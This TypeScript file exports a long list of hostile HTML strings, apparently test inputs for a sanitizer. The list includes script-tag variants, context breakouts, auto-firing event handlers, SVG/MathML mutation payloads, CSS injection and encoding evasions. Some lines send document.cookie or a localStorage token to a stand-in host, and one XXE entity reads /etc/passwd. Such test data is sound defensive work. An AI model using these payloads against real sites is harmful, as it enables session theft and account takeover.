import { hostileLinks } from './hostile-links.ts'

/** Texts that are elements, or break out of one, for a page that takes them for more than text. */

const elsewhere = 'https://hostile.invalid'

const scripts = [
  '<script>tripped=1</script>',
  '<script>alert(1)</script>',
  '<SCRIPT>tripped=1</SCRIPT>',
  '<ScRiPt >tripped=1</sCrIpT >',
  '<script\n>tripped=1</script\n>',
  '<script/x>tripped=1</script>',
  '<<script>tripped=1//<</script>',
  '<scr<script>ipt>tripped=1</scr</script>ipt>',
  '<script>tripped=1',
  '<script>tripped=1<!--',
  '<script type=module>tripped=1</script>',
  '<script type="text/javascript">tripped=1;</script>',
  '<script async>tripped=1</script>',
  `<script src=${elsewhere}/a.js></script>`,
  `<script src=//hostile.invalid/a.js></script>`,
  '<script src=data:text/javascript,tripped=1></script>',
  '<script>/*\u0041*/\\u0061lert(1)</script>',
  '<script>self["tripped"]=1</script>',
  '<script>Function("tripped=1")()</script>',
  '<script>setTimeout("tripped=1")</script>',
  '<script>eval(atob("dHJpcHBlZD0x"))</script>',
  '<script>location="javascript:tripped=1"</script>',
  '<script>document.write("<img src=x onerror=tripped=1>")</script>',
  `<script>fetch('${elsewhere}/?'+localStorage.token)</script>`,
  `<script>new Image().src='${elsewhere}/'+document.cookie</script>`,
  '<noscript><p title="</noscript><img src=x onerror=tripped=1>">',
  '<template><script>tripped=1</script></template>',
]

const breakouts = [
  '</script><script>tripped=1</script>',
  '</SCRIPT ><img src=x onerror=tripped=1>',
  '"}</script><script>tripped=1</script>',
  "'</script><svg onload=tripped=1>",
  '</title><script>tripped=1</script>',
  '</textarea><script>tripped=1</script>',
  '</style><img src=x onerror=tripped=1>',
  '</noscript><img src=x onerror=tripped=1>',
  '</template><img src=x onerror=tripped=1>',
  '</select><img src=x onerror=tripped=1>',
  '</p></li></ul></div><img src=x onerror=tripped=1>',
  '--><img src=x onerror=tripped=1>',
  '--!><img src=x onerror=tripped=1>',
  '<!--><img src=x onerror=tripped=1>-->',
  '<!-- <script>tripped=1</script> -->',
  '<![CDATA[<img src=x onerror=tripped=1>]]>',
  ']]><img src=x onerror=tripped=1>',
  '<?php echo 1 ?><img src=x onerror=tripped=1>',
  '"><img src=x onerror=tripped=1>',
  "'><img src=x onerror=tripped=1>",
  '`><img src=x onerror=tripped=1>',
  '" autofocus onfocus=tripped=1 x="',
  "' onmouseover=tripped=1 x='",
  '" style="animation-name:x" onanimationstart="tripped=1',
  'x onerror=tripped=1',
  '" onload="tripped=1" "',
  '&quot;><img src=x onerror=tripped=1>',
]

/** Elements that call a handler by themselves, with the handler. */
const selfCalling = [
  ['img src=x', 'onerror'],
  ['img src=data:,', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/x', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['div tabindex=0 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['frameset', 'onload'],
  ['p style=animation:x', 'onanimationstart'],
  ['form', 'onformdata'],
  ['dialog open', 'onclose'],
  ['div style=overflow:scroll', 'onscroll'],
] as const

/** Ways to write a handler's value. */
const written = [
  (handler: string) => `${handler}=tripped=1>`,
  (handler: string) => `${handler}="alert(1)">`,
  (handler: string) => `${handler.toUpperCase()} = 'tripped=1' >`,
]

const handlers = selfCalling.flatMap(([element, handler]) => written.map((end) => `<${element} ${end(handler)}`))

/** Handlers that need an action of the person. */
const waiting = [
  'onclick',
  'onmouseover',
  'onpointerenter',
  'oncopy',
  'onkeydown',
  'onwheel',
  'onsubmit',
  'oninput',
].map((handler) => `<b ${handler}=tripped=1>press</b>`)

const links = hostileLinks.slice(0, 18).map((address) => `<a href="${address}" autofocus>press</a>`)

const loads = [
  `<iframe src="javascript:tripped=1"></iframe>`,
  `<iframe srcdoc="<script>parent.tripped=1</script>"></iframe>`,
  `<iframe src=${elsewhere}></iframe>`,
  `<object data="javascript:tripped=1"></object>`,
  `<embed src="javascript:tripped=1">`,
  `<form action="javascript:tripped=1"><button>press</button></form>`,
  `<button formaction=javascript:tripped=1 form=x>press</button>`,
  `<base href=${elsewhere}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:tripped=1">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<link rel=stylesheet href=${elsewhere}/a.css>`,
  `<link rel=prefetch href=${elsewhere}/>`,
  `<img src=${elsewhere}/a.png>`,
  `<img srcset="${elsewhere}/a.png 1x">`,
  `<video poster=${elsewhere}/a.png>`,
  `<body background=${elsewhere}/a.png>`,
  `<table background="${elsewhere}/a.png"><td>x`,
  `<input type=image src=${elsewhere}/a.png>`,
  `<a ping=${elsewhere} href=/>press</a>`,
  `<portal src=${elsewhere}>`,
]

const drawings = [
  '<svg><script>tripped=1</script></svg>',
  '<svg><script href=data:,tripped=1 /></svg>',
  '<svg><script xlink:href="data:,tripped=1"></script></svg>',
  '<svg><animate onbegin=tripped=1 attributeName=x dur=1s>',
  '<svg><set onbegin=tripped=1 attributeName=x to=1>',
  '<svg><a><animate attributeName=href values=javascript:tripped=1 /><text y=9>press</text></a>',
  '<svg><foreignObject><img src=x onerror=tripped=1></foreignObject></svg>',
  `<svg><image href=${elsewhere}/a.png>`,
  `<svg><use href="${elsewhere}/a.svg#x">`,
  '<svg><use href="data:image/svg+xml,<svg id=x onload=tripped=1>#x">',
  '<svg><style>@import "//hostile.invalid"</style>',
  '<svg><title><style></title><img src=x onerror=tripped=1>',
  '<svg><desc><noscript></desc><img src=x onerror=tripped=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=tripped=1>',
  '<math href=javascript:tripped=1>press</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:tripped=1>press',
  '<svg></p><style><a id="</style><img src=1 onerror=tripped=1>">',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
]

const styles = [
  '<style>*{display:none}</style>',
  '<style>@import url(//hostile.invalid/a.css)</style>',
  '<style>body{background:url(//hostile.invalid/a.png)}</style>',
  '<style>input[value^=a]{background:url(//hostile.invalid/a)}</style>',
  '<p style="position:fixed;inset:0;background:red">x',
  '<p style="background:url(//hostile.invalid/a.png)">x',
  '<p style="width:expression(tripped=1)">x',
  '<p style="-moz-binding:url(//hostile.invalid/x.xml#x)">x',
  'red;background:url(//hostile.invalid/a.png)',
  '}*{background:url(//hostile.invalid/a.png)}',
]

const entities = [
  '&lt;script&gt;tripped=1&lt;/script&gt;',
  '&amp;lt;b&amp;gt;',
  '&#60;img src=x onerror=tripped=1&#62;',
  '&#x3c;img src=x onerror=tripped=1&#x3e;',
  '&#0000060;img src=x onerror=tripped=1>',
  '&LT;img src=x onerror=tripped=1&GT;',
  '&nbsp;&shy;&zwj;&rlm;',
  '&notanentity; &amp',
  '&#0;&#x110000;&#xD800;',
  '<b>bold</b> <i>and</i> <u>so on</u>',
  '<h1>Free cars!</h1>',
  '<br><hr><wbr>',
  '<a href=https://hostile.invalid>press</a>',
  '<plaintext>',
  '<xmp><img src=x onerror=tripped=1></xmp>',
  '＜script＞tripped=1＜/script＞',
  '‹script›tripped=1‹/script›',
  '+ADw-script+AD4-tripped=1+ADw-/script+AD4-',
  '<img src=x on\u0000error=tripped=1>',
  '<\u0000script>tripped=1</script>',
]

/** All hostile markup. */
export const hostileMarkup: readonly string[] = [
  scripts,
  breakouts,
  handlers,
  waiting,
  links,
  loads,
  drawings,
  styles,
  entities,
].flat()
